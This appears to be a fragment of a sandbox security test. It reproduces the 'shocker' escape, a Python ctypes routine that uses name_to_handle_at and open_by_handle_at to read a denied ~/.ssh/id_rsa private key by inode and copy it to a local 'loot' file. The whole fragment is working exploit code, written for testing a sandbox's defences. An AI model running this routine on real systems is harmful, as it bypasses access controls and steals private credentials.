# attack: the "shocker" escape: name_to_handle_at on the denied ~/.ssh/id_rsa,
# then open_by_handle_at, which opens by inode and never walks the path.
# detected: the test looks for the secret's contents in $PWD/loot.
"$PY" - <<'PYEOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]
h = Handle(128, 0)
mnt = ctypes.c_int()
path = (os.environ["HOME"] + "/.ssh/id_rsa").encode()
AT_FDCWD = -100
if libc.name_to_handle_at(AT_FDCWD, path, ctypes.byref(h), ctypes.byref(mnt), 0) != 0:
    raise SystemExit("name_to_handle_at: " + os.strerror(ctypes.get_errno()))
mfd = os.open(os.environ["HOME"], os.O_RDONLY | os.O_DIRECTORY)
fd = libc.open_by_handle_at(mfd, ctypes.byref(h), os.O_RDONLY)
if fd < 0:
    raise SystemExit("open_by_handle_at: " + os.strerror(ctypes.get_errno()))
open("loot", "wb").write(os.read(fd, 4096))
PYEOF
